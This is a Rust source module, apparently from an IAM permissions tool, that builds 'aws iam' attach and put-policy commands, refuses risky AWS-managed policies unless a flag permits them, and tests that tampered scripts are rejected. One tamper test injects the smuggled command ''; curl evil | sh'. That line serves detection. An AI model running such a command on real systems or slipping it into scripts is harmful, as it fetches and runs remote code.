//! `--emit aws-cli`: `aws iam` commands per IAM user or role. The existing
//! managed policies the report names (`grant_roles`, from `--iam` dumps) are
//! attached; what no existing policy grants goes into one inline policy,
//! `grantgap-missing-permissions`, written by `--emit iam-policy`'s rules
//! (resources from the records, risky actions refused).

use std::collections::{BTreeMap, BTreeSet};

use serde_json::Value;

use super::{iam, option, script_commands, shown, subject_risk, Emit, Grant, Script};

/// The inline policy's name: `put-*-policy` replaces a policy of the same
/// name, so running the script again leaves one policy, not two.
const INLINE_POLICY: &str = "grantgap-missing-permissions";

/// AWS-managed policies that hand over the account, or its IAM.
const RISKY_POLICIES: &[&str] = &["AdministratorAccess", "PowerUserAccess", "IAMFullAccess"];

/// An IAM user or role, as `aws iam` names it.
#[derive(Debug, Clone, PartialEq, Eq, PartialOrd, Ord)]
struct Identity {
    account: String,
    /// `user` or `role`.
    kind: &'static str,
    name: String,
}

/// The user or role an ARN names (`arn:aws:iam::ACCOUNT:role/PATH/NAME`),
/// if it names one; sessions are already their role in the report.
fn identity(arn: &str) -> Option<Identity> {
    let rest = arn.strip_prefix("arn:")?;
    let (partition, rest) = rest.split_once(":iam::")?;
    if !matches!(partition, "aws" | "aws-cn" | "aws-us-gov") {
        return None;
    }
    let (account, resource) = rest.split_once(':')?;
    let (kind, path) = resource.split_once('/')?;
    let kind = match kind {
        "user" => "user",
        "role" => "role",
        _ => return None,
    };
    let name = path.rsplit('/').next()?;
    let valid = account.len() == 12
        && account.bytes().all(|b| b.is_ascii_digit())
        && (1..=64).contains(&name.len())
        && path
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"+=,.@_-/".contains(&b));
    valid.then(|| Identity {
        account: account.to_string(),
        kind,
        name: name.to_string(),
    })
}

/// Whether a policy ARN has IAM's shape (`arn:aws:iam::ACCOUNT|aws:policy/PATH/NAME`).
fn policy_arn(arn: &str) -> bool {
    let Some((head, path)) = arn.split_once(":policy/") else {
        return false;
    };
    let owner_ok = ["aws", "aws-cn", "aws-us-gov"].iter().any(|p| {
        head.strip_prefix("arn:")
            .and_then(|h| h.strip_prefix(p))
            .and_then(|h| h.strip_prefix(":iam::"))
            .is_some_and(|owner| {
                owner == "aws" || (owner.len() == 12 && owner.bytes().all(|b| b.is_ascii_digit()))
            })
    });
    owner_ok
        && !path.is_empty()
        && path.len() <= 512
        && path
            .bytes()
            .all(|b| b.is_ascii_alphanumeric() || b"+=,.@_-/".contains(&b))
}

/// Why attaching this policy for this permission reaches past it, if it does.
fn attach_risk(policy: &str, permission: &str) -> Option<&'static str> {
    let name = policy.rsplit('/').next().unwrap_or_default();
    if policy.contains(":iam::aws:policy/") && RISKY_POLICIES.contains(&name) {
        Some("is an AWS-managed policy that hands over the account or its IAM")
    } else {
        // Its other statements are unknown here: judged as if on every resource.
        iam::iam_escalation(permission, &["*".to_string()])
    }
}

pub(super) fn render(
    grants: &[Grant<'_>],
    allow_risky: bool,
    warnings: &mut BTreeSet<String>,
) -> String {
    let mut attach: BTreeMap<Identity, BTreeMap<&str, Option<String>>> = BTreeMap::new();
    let mut inline: Vec<(Identity, &Grant<'_>)> = Vec::new();
    for grant in grants.iter().filter(|g| iam::iam_shaped(g.permission)) {
        let Some(who) = identity(grant.principal) else {
            warnings.insert(format!(
                "skipped {} for {}: the principal is not an IAM user or role ARN, which aws iam commands name; grant it by hand",
                shown(grant.permission),
                shown(grant.principal)
            ));
            continue;
        };
        if grant.roles.is_empty() {
            inline.push((who, grant));
            continue;
        }
        for policy in grant.roles {
            if !policy_arn(policy) {
                warnings.insert(format!(
                    "skipped policy {} for {}: it is not an IAM policy ARN",
                    shown(policy),
                    shown(grant.principal)
                ));
                continue;
            }
            let risk =
                attach_risk(policy, grant.permission).map(|why| subject_risk(policy, grant, why));
            if let (Some((_, refusal)), false) = (&risk, allow_risky) {
                warnings.insert(refusal.clone());
                continue;
            }
            let marks = attach.entry(who.clone()).or_default();
            let mark = marks.entry(policy.as_str()).or_default();
            if let Some((note, _)) = risk {
                mark.get_or_insert(note);
            }
        }
    }
    // One inline policy per user or role: its principals (a role's ARN with
    // and without its path) are merged under one key.
    let keys: Vec<String> = inline
        .iter()
        .map(|(who, _)| format!("{}:{}/{}", who.account, who.kind, who.name))
        .collect();
    let keyed: Vec<Grant<'_>> = inline
        .iter()
        .zip(&keys)
        .map(|((_, g), key)| Grant {
            principal: key,
            ..**g
        })
        .collect();
    let documents: BTreeMap<String, Value> = if keyed.is_empty() {
        BTreeMap::new()
    } else {
        let json = iam::render(&keyed, allow_risky, warnings);
        serde_json::from_str(&json).expect("iam::render writes a JSON object")
    };
    let by_key: BTreeMap<&str, &Identity> = keys
        .iter()
        .map(String::as_str)
        .zip(inline.iter().map(|(w, _)| w))
        .collect();

    let mut script = Script::new(Emit::AwsCli);
    let mut commands = 0;
    let mut targets: BTreeSet<&Identity> = attach.keys().collect();
    targets.extend(documents.keys().map(|k| by_key[k.as_str()]));
    for who in targets {
        script.comment(&format!(
            "{} {} in account {}",
            who.kind,
            shown(&who.name),
            who.account
        ));
        for (policy, risk) in attach.get(who).into_iter().flatten() {
            let words = vec![
                "aws".into(),
                "iam".into(),
                format!("attach-{}-policy", who.kind),
                format!("--{}-name={}", who.kind, who.name),
                format!("--policy-arn={policy}"),
            ];
            script
                .command(&words, risk.as_deref())
                .expect("checked names hold no NUL");
            commands += 1;
        }
        let key = format!("{}:{}/{}", who.account, who.kind, who.name);
        if let Some(document) = documents.get(&key) {
            let risky = document["Statement"]
                .as_array()
                .into_iter()
                .flatten()
                .any(|s| s.get("Sid").is_some());
            let words = vec![
                "aws".into(),
                "iam".into(),
                format!("put-{}-policy", who.kind),
                format!("--{}-name={}", who.kind, who.name),
                format!("--policy-name={INLINE_POLICY}"),
                format!("--policy-document={document}"),
            ];
            let risk = risky.then_some("its statements with a RiskyGrantAllowedByFlag Sid");
            if let Err(why) = script.command(&words, risk) {
                warnings.insert(format!(
                    "skipped the inline policy of {}: {why}",
                    shown(&key)
                ));
                continue;
            }
            commands += 1;
        }
    }
    script.finish(commands)
}

pub(super) fn check(grants: &[&Grant<'_>], allow_risky: bool, text: &str) -> Result<(), String> {
    let mut inline: BTreeMap<String, Value> = BTreeMap::new();
    let mut inline_grants: Vec<(String, &Grant<'_>)> = Vec::new();
    for grant in grants {
        if let Some(who) = identity(grant.principal) {
            if grant.roles.is_empty() {
                inline_grants.push((format!("{}:{}/{}", who.account, who.kind, who.name), grant));
            }
        }
    }
    for (marked, words) in script_commands(text)? {
        let verb = words.get(2).map(String::as_str).unwrap_or_default();
        if words.len() < 5 || words[0] != "aws" || words[1] != "iam" {
            return Err(format!("not an aws iam command: {words:?}"));
        }
        let kind = match verb {
            "attach-user-policy" | "put-user-policy" => "user",
            "attach-role-policy" | "put-role-policy" => "role",
            _ => return Err(format!("unexpected command {words:?}")),
        };
        let name = option(&words, &format!("--{kind}-name")).ok_or("no name")?;
        let own: Vec<&&Grant<'_>> = grants
            .iter()
            .filter(|g| identity(g.principal).is_some_and(|i| i.kind == kind && i.name == name))
            .collect();
        if own.is_empty() {
            return Err(format!("{kind} {name:?} is no chosen principal"));
        }
        if verb.starts_with("attach") {
            let policy = option(&words, "--policy-arn").ok_or("no policy")?;
            let granting: Vec<_> = own
                .iter()
                .filter(|g| g.roles.iter().any(|r| r == policy))
                // A grant refused as risky justifies no command.
                .filter(|g| allow_risky || attach_risk(policy, g.permission).is_none())
                .collect();
            if granting.is_empty() || !policy_arn(policy) || words.len() != 5 {
                return Err(format!(
                    "{policy:?} attached to {name:?}: no grant names it"
                ));
            }
            let risky = granting
                .iter()
                .any(|g| attach_risk(policy, g.permission).is_some());
            if (risky && !allow_risky) || marked != risky {
                return Err(format!("{words:?}: risky {risky}, marked {marked}"));
            }
        } else {
            if option(&words, "--policy-name") != Some(INLINE_POLICY) || words.len() != 6 {
                return Err(format!("unexpected inline policy {words:?}"));
            }
            let document = option(&words, "--policy-document").ok_or("no document")?;
            let document: Value =
                serde_json::from_str(document).map_err(|e| format!("document: {e}"))?;
            let account = own
                .iter()
                .filter_map(|g| identity(g.principal))
                .map(|i| i.account)
                .next()
                .unwrap_or_default();
            let key = format!("{account}:{kind}/{name}");
            if inline.insert(key.clone(), document).is_some() {
                return Err(format!("two inline policies for {key}"));
            }
        }
    }
    // The inline documents obey iam-policy's own check.
    let keyed: Vec<Grant<'_>> = inline_grants
        .iter()
        .map(|(key, g)| Grant {
            principal: key,
            ..**g
        })
        .collect();
    let keyed: Vec<&Grant<'_>> = keyed.iter().collect();
    let json = serde_json::to_string(&inline).expect("documents serialise");
    iam::check(&keyed, allow_risky, &json)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::report::emit::{check_round_trip, render, Options};

    const BOB: &str = "arn:aws:iam::111122223333:user/bob";
    const PIPELINE: &str = "arn:aws:iam::111122223333:role/ci/deploy-pipeline";

    #[test]
    fn existing_policies_are_attached_and_the_rest_put_inline() {
        let user_admin = ["arn:aws:iam::111122223333:policy/UserAdmin".to_string()];
        let bucket = ["arn:aws:s3:::reports/q1.csv".to_string()];
        let grants = [
            Grant {
                roles: &user_admin,
                ..super::super::grant(BOB, "iam:TagUser", &[])
            },
            Grant {
                objects: &bucket,
                ..super::super::grant(PIPELINE, "s3:GetObject", &[])
            },
            // The same role, as a session names it without its path.
            super::super::grant(
                "arn:aws:iam::111122223333:role/deploy-pipeline",
                "lambda:DeleteFunction",
                &[],
            ),
            super::super::grant("AROAEXAMPLE", "s3:GetObject", &[]),
        ];
        let options = Options::default();
        let emitted = render(&grants, Emit::AwsCli, &options);
        let text = &emitted.text;
        assert!(text.contains("\naws iam attach-user-policy '--user-name=bob' '--policy-arn=arn:aws:iam::111122223333:policy/UserAdmin'\n"), "{text}");
        assert_eq!(
            text.matches("put-role-policy '--role-name=deploy-pipeline'")
                .count(),
            1,
            "{text}"
        );
        assert!(
            text.contains(r#""Resource":["arn:aws:s3:::reports/q1.csv"]"#),
            "{text}"
        );
        assert!(
            text.contains(
                r#""Action":["lambda:DeleteFunction"],"Effect":"Allow","Resource":["*"]"#
            ),
            "{text}"
        );
        assert!(emitted.warnings[0]
            .contains("\"AROAEXAMPLE\": the principal is not an IAM user or role ARN"));
        check_round_trip(&grants, Emit::AwsCli, &options, &emitted).unwrap();

        // Tampering is caught: another principal, another policy, a second command on a line.
        for tampered in [
            text.replace("--user-name=bob", "--user-name=alice"),
            text.replace("policy/UserAdmin", "policy/Admin"),
            text.replace("UserAdmin'\n", "UserAdmin'; curl evil | sh\n"),
            text.replace("lambda:DeleteFunction", "lambda:*"),
        ] {
            assert_ne!(&tampered, text);
            let tampered = crate::report::emit::Emitted {
                text: tampered,
                ..Default::default()
            };
            assert!(check_round_trip(&grants, Emit::AwsCli, &options, &tampered).is_err());
        }
    }

    #[test]
    fn risky_policies_are_refused_unless_allowed() {
        let admin = ["arn:aws:iam::aws:policy/AdministratorAccess".to_string()];
        let grants = [Grant {
            roles: &admin,
            ..super::super::grant(BOB, "ec2:RunInstances", &[])
        }];
        let refused = render(&grants, Emit::AwsCli, &Options::default());
        assert!(
            !refused.text.contains("attach-user-policy"),
            "{}",
            refused.text
        );
        assert!(refused.warnings[0]
            .starts_with("refused \"arn:aws:iam::aws:policy/AdministratorAccess\" for"));
        let options = Options {
            allow_risky: true,
            ..Options::default()
        };
        let allowed = render(&grants, Emit::AwsCli, &options);
        assert!(allowed.text.contains("# risky, emitted because of --allow-risky: \"arn:aws:iam::aws:policy/AdministratorAccess\" is an AWS-managed policy"));
        check_round_trip(&grants, Emit::AwsCli, &options, &allowed).unwrap();
    }
}
